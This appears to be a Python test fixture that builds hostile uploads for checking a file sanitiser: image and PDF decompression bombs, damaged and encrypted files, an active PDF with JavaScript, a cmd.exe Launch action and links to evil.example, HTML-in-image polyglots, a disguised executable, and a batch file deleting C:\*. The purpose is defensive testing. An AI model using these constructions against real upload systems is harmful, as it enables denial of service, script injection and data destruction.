"""Hostile files, made by the tests: bombs, damaged files, active PDFs and polyglots.

Each upload path (grievance evidence, consultation attachments) must refuse or clean
every one of them; see the tests that import this module.
"""

import functools
import io
import struct
import zlib
from dataclasses import dataclass, field

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

ACTIVE_TOKENS = [
    b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/URI", b"/Launch", b"/SubmitForm",
    b"/EmbeddedFile", b"/EF", b"/XFA", b"app.alert", b"evil.example",
]  # fmt: skip


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=code))


def active_pdf() -> bytes:
    """A PDF that acts on its own in every way a reader allows."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    page = pdf.pages[0]
    pdf.Root.OpenAction = _js(pdf, "app.alert('open')")
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, "app.alert('close')"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", _js(pdf, "app.alert('n')")]))
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))
    page.obj.AA = pikepdf.Dictionary(O=_js(pdf, "app.alert('page')"))

    def link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 10, 10]), A=action,
        )  # fmt: skip

    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/")),
                link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
                link(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.GoTo,
                        D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]),
                        Next=_js(pdf, "app.alert('next')"),
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
                    )
                ),
            ]
        )
    )
    pdf.attachments["payload.zip"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04evil")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def blank_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@dataclass(frozen=True)
class Hostile:
    """A file an attacker could send, and what must become of it."""

    name: str  # as the sender names it
    data: bytes
    refused: bool  # True: refused on every path; False: accepted only once made harmless
    absent: tuple[bytes, ...] = field(default=())  # never in what a reader downloads


def _image(fmt: str, size: tuple[int, int] = (8, 8), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").convert("P" if fmt == "GIF" else "RGB").save(out, fmt, **options)
    return out.getvalue()


def _patched(data: bytes, at: int, packed: bytes) -> bytes:
    return data[:at] + packed + data[at + len(packed) :]


def png_bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (13000, 13000)).save(out, "PNG")  # 20 KB, 169 million pixels
    return out.getvalue()


def gif_bomb() -> bytes:
    return _patched(_image("GIF", (1, 1)), 6, struct.pack("<HH", 65535, 65535))


def jpeg_bomb() -> bytes:
    data = _image("JPEG")
    return _patched(data, data.index(b"\xff\xc0") + 5, struct.pack(">HH", 65000, 65000))


def webp_bomb() -> bytes:
    data = _image("WEBP", (1, 1), lossless=True)
    at = data.index(b"VP8L") + 9  # after the chunk size and the 0x2f signature
    bits = struct.unpack("<I", data[at : at + 4])[0] & 0xF0000000 | 16383 | 16383 << 14
    return _patched(data, at, struct.pack("<I", bits))


def flate_bomb_pdf() -> bytes:
    """A page whose content inflates to 16 MB: cleaning copies it, never inflates it."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    stream = pikepdf.Stream(pdf, zlib.compress(b" " * (16 * 1024 * 1024), 9))
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].Contents = pdf.make_indirect(stream)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="secret"))
    return out.getvalue()


ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"payload.exe" * 4 + b"PK\x05\x06" + bytes(18)
SCRIPT = b"<script>alert(document.domain)</script>"


def gif_html_polyglot() -> bytes:
    """A GIF whose comment and tail are HTML: a browser sniffing it may run the script."""
    gif = _image("GIF", comment=SCRIPT)
    return gif + SCRIPT


def jpeg_with_html_comment() -> bytes:
    data = _image("JPEG")
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    return data[:2] + comment + data[2:]


def png_with_script_and_zip() -> bytes:
    out = io.BytesIO()
    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue() + ZIP


def _jpeg_noise() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((256, 256), 50).convert("RGB").save(out, "JPEG")
    return out.getvalue()


@functools.cache
def corpus() -> dict[str, Hostile]:
    """Every hostile file, made afresh (nothing binary is kept in the repository)."""
    inert = (SCRIPT, b"alert(", b"PK\x03\x04")
    files = [
        # decompression bombs: refused from their header, before any decoding
        Hostile("bomb.png", png_bomb(), refused=True),
        Hostile("bomb.gif", gif_bomb(), refused=True),
        Hostile("bomb.jpg", jpeg_bomb(), refused=True),
        Hostile("bomb.webp", webp_bomb(), refused=True),
        Hostile("pages.pdf", blank_pdf(pages=1001), refused=True),
        # damaged: refused with the file named, the words kept
        Hostile("truncated.jpg", _jpeg_noise()[:3000], refused=True),
        Hostile("junk.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, refused=True),
        Hostile("broken.pdf", b"%PDF-1.7\n" + b"\x93no objects\x00" * 40, refused=True),
        Hostile("broken.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 " + b"\x01\xfe" * 64, True),
        Hostile("locked.pdf", encrypted_pdf(), refused=True),
        # not a kind we take at all
        Hostile("archive.zip", ZIP, refused=True),
        Hostile("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(64), refused=True),
        # active content and polyglots: accepted only once harmless
        Hostile("active.pdf", active_pdf(), refused=False, absent=tuple(ACTIVE_TOKENS)),
        Hostile("zipped.pdf", blank_pdf() + ZIP, refused=False, absent=(b"PK\x03\x04",)),
        Hostile("inflates.pdf", flate_bomb_pdf(), refused=False),
        Hostile("polyglot.gif", gif_html_polyglot(), refused=False, absent=inert),
        Hostile("comment.jpg", jpeg_with_html_comment(), refused=False, absent=inert),
        Hostile("chunks.png", png_with_script_and_zip(), refused=False, absent=inert),
        Hostile("evil.html", b"<html>" + SCRIPT + b"</html>", refused=False),
        Hostile(
            "evil.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", False
        ),
        Hostile("run.bat", b"@echo off\r\ndel /q C:\\*\r\n", refused=False),
    ]
    return {hostile.name: hostile for hostile in files}


SAFE_SUFFIXES = (".jpg", ".png", ".pdf", ".txt")  # what a cleaned or text file is named
